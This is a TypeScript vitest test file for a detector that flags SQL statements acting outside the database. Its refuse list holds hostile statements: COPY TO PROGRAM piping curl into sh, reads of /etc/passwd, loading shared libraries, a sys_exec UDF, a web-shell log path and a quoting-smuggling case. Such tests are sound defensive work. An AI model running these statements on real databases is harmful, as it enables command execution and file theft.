import { describe, expect, it } from "vitest";
import { outsideDatabaseReasons } from "./outside-database";
import type { SqlDialect } from "./types";

/** Statements that reach the database host (shell, server files): refused on every path. */
const outside: [SqlDialect, string][] = [
  ["postgres", "COPY (SELECT 1) TO PROGRAM 'touch /tmp/x'"],
  ["postgres", "copy items from program 'curl http://example.invalid | sh'"],
  ["postgres", "COPY items TO '/tmp/items.csv'"],
  ["postgres", "COPY items (id, name) FROM '/etc/passwd' WITH (FORMAT csv)"],
  ["postgres", "COPY items FROM E'/etc/\\x70asswd'"],
  ["postgres", "/* c */ (COPY (SELECT * FROM items WHERE name = 'TO STDOUT') TO PROGRAM 'id')"],
  ["postgres", "COPY items FROM $1"],
  ["postgres", "DO $$ BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''id'''; END $$"],
  ["postgres", "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $body$ BEGIN COPY items TO '/tmp/f'; END $body$"],
  ["postgres", "UPDATE items SET name = query_to_xml('COPY (SELECT 1) TO PROGRAM ''id''', true, true, '')::text"],
  ["postgres", "SELECT pg_read_file('/etc/passwd')"],
  ["postgres", "INSERT INTO items (name) SELECT pg_catalog.pg_read_binary_file('/etc/hostname')::text"],
  ["postgres", "SELECT lo_export(1234, '/tmp/out')"],
  ["postgres", "SELECT * FROM pg_ls_dir('.')"],
  ["mysql", "SELECT * FROM items INTO OUTFILE '/tmp/items.csv'"],
  ["mysql", "SELECT name INTO DUMPFILE '/tmp/x' FROM items LIMIT 1"],
  ["mysql", "LOAD DATA INFILE '/tmp/items.csv' INTO TABLE items"],
  ["mysql", "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE items"],
  ["mysql", "load xml infile '/tmp/x.xml' into table items"],
  ["mysql", "UPDATE items SET name = LOAD_FILE('/etc/hostname') WHERE id = 1"],
  ["mysql", "INSERT INTO items (name) VALUES (`load_file`('/etc/passwd'))"],
  ["mysql", "SELECT 1 /*! INTO OUTFILE '/tmp/y' */"],
  ["sqlite", "SELECT load_extension('/tmp/evil.so')"],
  ["sqlite", "UPDATE items SET name = readfile('/etc/passwd')"],
  ["sqlite", "ATTACH DATABASE '/tmp/new.db' AS other"],
  ["sqlite", "VACUUM INTO '/tmp/copy.db'"],
  ["postgres", "ALTER SYSTEM SET archive_command = 'id'"],
  ["postgres", "CREATE TABLESPACE t LOCATION '/tmp/ts'"],
  ["postgres", "LOAD '/tmp/evil.so'"],
  ["mysql", "INSTALL PLUGIN x SONAME 'x.so'"],
  ["mysql", "CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'lib_mysqludf_sys.so'"],
  ["mysql", "SET GLOBAL general_log_file = '/var/www/shell.php'"],
];

const inside: [SqlDialect, string][] = [
  ["postgres", "COPY items FROM STDIN"],
  ["postgres", "COPY (SELECT * FROM items) TO STDOUT WITH (FORMAT csv)"],
  ["postgres", "UPDATE items SET name = 'COPY is a word' WHERE id = 1"],
  ["postgres", "UPDATE items SET copy = 1, program = 'x' WHERE id = 1"],
  ["mysql", "INSERT INTO notes (body) VALUES ('load data from the file later')"],
  ["mysql", "SELECT id INTO @x FROM items LIMIT 1"],
  ["sqlite", "UPDATE items SET name = 'readfile' WHERE id = 1"],
  ["sqlite", "VACUUM"],
  ["postgres", "ALTER TABLE items ADD COLUMN note text"],
  ["mysql", "SET @general_log = 1"],
];

describe("statements that act outside the database", () => {
  it.each(outside)("%s refuses: %s", (dialect, sql) => {
    expect(outsideDatabaseReasons(sql, dialect).length).toBeGreaterThan(0);
  });

  it.each(inside)("%s allows: %s", (dialect, sql) => {
    expect(outsideDatabaseReasons(sql, dialect)).toEqual([]);
  });

  it("reads the text both ways when a server setting may move string boundaries", () => {
    // With standard_conforming_strings=off the string ends at \' and the COPY becomes code.
    const sql = "SELECT 'a\\'; COPY (SELECT 1) TO PROGRAM ''id''; --'";
    expect(outsideDatabaseReasons(sql, "postgres").join(" ")).toMatch(/PROGRAM/);
  });
});
